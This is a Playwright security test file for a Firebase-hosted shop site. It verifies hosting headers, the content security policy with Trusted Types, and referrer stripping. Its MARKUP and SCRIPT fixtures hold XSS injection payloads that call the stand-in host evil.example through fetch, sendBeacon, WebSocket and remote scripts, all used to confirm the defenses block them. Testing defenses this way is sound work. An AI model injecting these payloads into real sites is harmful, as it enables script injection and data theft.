import { readFileSync } from 'node:fs'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { PIXEL } from '../../tests/fixtures/images'
import { expect, httpTest, owner, test } from '../helpers/fixtures'

type Header = { key: string; value: string }
const firebase = JSON.parse(
  readFileSync(path.resolve(import.meta.dirname, '../../firebase.json'), 'utf8'),
) as {
  hosting: { headers: { regex?: string; headers: Header[] }[] }
}
const siteHeaders = firebase.hosting.headers.find(({ regex }) => regex === '.*')?.headers ?? []

// tests/house/hosting.test.ts shows their values.
httpTest('every answer carries the headers of firebase.json', async ({ baseURL }) => {
  for (const route of [
    '/',
    '/products',
    '/admin/dashboard',
    '/no-such',
    '/.well-known/security.txt',
  ]) {
    const { headers } = await fetch(new URL(route, baseURL))
    for (const { key, value } of siteHeaders) {
      // The local hosting adds only the addresses of the emulators, and leaves requests over http as they are.
      const served = headers.get(key)?.replace(/ http:\/\/127\.0\.0\.1:\d+/g, '')
      expect(served, `${key} of ${route}`).toBe(value.replace('; upgrade-insecure-requests', ''))
    }
  }
})

/** Injections that ran, violated directives, errors that were thrown, and requests that were sent. */
type Attempts = Record<'executed' | 'reported' | 'thrown', string[]> & { sent: string[] }

/** Opens the home page with hostile markup and scripts in it. */
async function openWithInjections(page: Page): Promise<Attempts> {
  const sent: string[] = []
  await page.route('**://evil.example/**', (route) => {
    sent.push(route.request().url())
    return route.abort()
  })
  // The parser meets this markup, as if a stored text had been inserted unescaped.
  await page.route('/', async (route) => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace('</body>', `${MARKUP}</body>`)
    await route.fulfill({ response: answer, body })
  })
  // The script comes from a page of the site, because page.evaluate ignores the content security policy.
  await page.route('**/assets/hostile.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: SCRIPT }),
  )
  await page.addInitScript(() => {
    const effects = { executed: [], reported: [] as string[], thrown: [] }
    Object.assign(window, effects)
    document.addEventListener('securitypolicyviolation', (event) =>
      effects.reported.push(event.effectiveDirective),
    )
  })
  await page.goto('/', { waitUntil: 'commit' })
  await page.waitForFunction(() => 'done' in window)
  const effects = await page.evaluate(() => {
    const { executed, reported, thrown } = window as unknown as Attempts
    return { executed, reported, thrown }
  })
  return { ...effects, sent }
}

test('injected markup and scripts do not run', async ({ page, consoleGuard }) => {
  consoleGuard.allow(/./)
  const { executed, reported, thrown, sent } = await openWithInjections(page)
  expect(executed).toEqual([])
  expect(reported.length).toBeGreaterThanOrEqual(25)
  expect(new Set(reported)).toContain('require-trusted-types-for')
  // Every way from a text to running code or markup throws before it does anything.
  expect(thrown).toEqual(Array.from({ length: 10 }, () => 'TypeError'))
  // Administrators may link an image of any host, so images leave. Nothing else does.
  expect(sent.filter((url) => !url.includes('/image'))).toEqual([])
  expect(sent.length, 'the control').toBeGreaterThan(0)
})

const MARKUP = `
<script>executed.push('inline')</script>
<script src="https://evil.example/a.js"></script>
<script src="data:text/javascript,executed.push('data')"></script>
<script type="module">executed.push('module')</script>
<img src="/none" onerror="executed.push('error')">
<svg onload="executed.push('load')"></svg>
<a id="link" href="javascript:executed.push('link')">x</a>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>parent.executed.push('frame')</script>"></iframe>
<object data="https://evil.example/"></object>
<embed src="https://evil.example/">
<base href="https://evil.example/">
<form id="form" action="https://evil.example/"></form>
<link rel="stylesheet" href="https://evil.example/a.css">
<link rel="preload" as="font" crossorigin href="https://evil.example/b.woff2">
<style>
  @import 'https://evil.example/c.css';
  @font-face { font-family: evil; src: url('https://evil.example/d.woff2'); unicode-range: U+0-10FFFF }
  #link { font-family: evil }
  #form { background: url('https://evil.example/image.png') }
  body::after { content: url('https://evil.example/image.svg'); filter: url('https://evil.example/e.svg#x') }
</style>
<audio src="http://evil.example/a.mp3" autoplay></audio>
<script src="/assets/hostile.js" type="module"></script>
`

const SCRIPT = `
const attempt = (run) => { try { run() } catch (error) { thrown.push(error instanceof EvalError ? 'TypeError' : error.name) } }
const element = (name) => document.createElement(name)
document.querySelector('#link').click()
document.querySelector('#form').submit()
attempt(() => { element('div').innerHTML = '<img src="/none" onerror="executed.push(1)">' })
attempt(() => { document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="executed.push(2)">') })
attempt(() => { element('script').textContent = 'executed.push(3)' })
attempt(() => { element('script').src = 'https://evil.example/a.js' })
attempt(() => { element('iframe').srcdoc = '<p>x</p>' })
attempt(() => { eval('executed.push(4)') })
attempt(() => { new Function('executed.push(5)')() })
attempt(() => { setTimeout('executed.push(6)') })
attempt(() => { new Worker('https://evil.example/w.js') })
attempt(() => { trustedTypes.createPolicy('evil', {}) })
fetch('https://evil.example/').catch(() => {})
try { new WebSocket('wss://evil.example/') } catch {}
navigator.sendBeacon('https://evil.example/', 'x')
setTimeout(() => { window.done = true }, 500)
`

test('the host of a linked large image is not told which site shows it', async ({ page }) => {
  const link = 'https://images.example/large.webp'
  const referrers: (string | undefined)[] = []
  await page.route(link, (route) => {
    referrers.push(route.request().headers()['referer'])
    const body = Buffer.from(PIXEL.split(',')[1] ?? '', 'base64')
    return route.fulfill({ contentType: 'image/webp', body })
  })
  const [id, dates] = ['1900000000001', { createdAt: new Date(), updatedAt: new Date() }]
  await owner.put(`products/${id}`, { id, image: PIXEL, name: 'الأول', order: 1, ...dates })
  await owner.put(`products/${id}/images/large`, { image: link })
  await page.goto(`/products?p=${id}`)
  await expect(page.getByRole('dialog').getByRole('img')).toHaveAttribute('src', link)
  expect(referrers).toEqual([undefined])
})
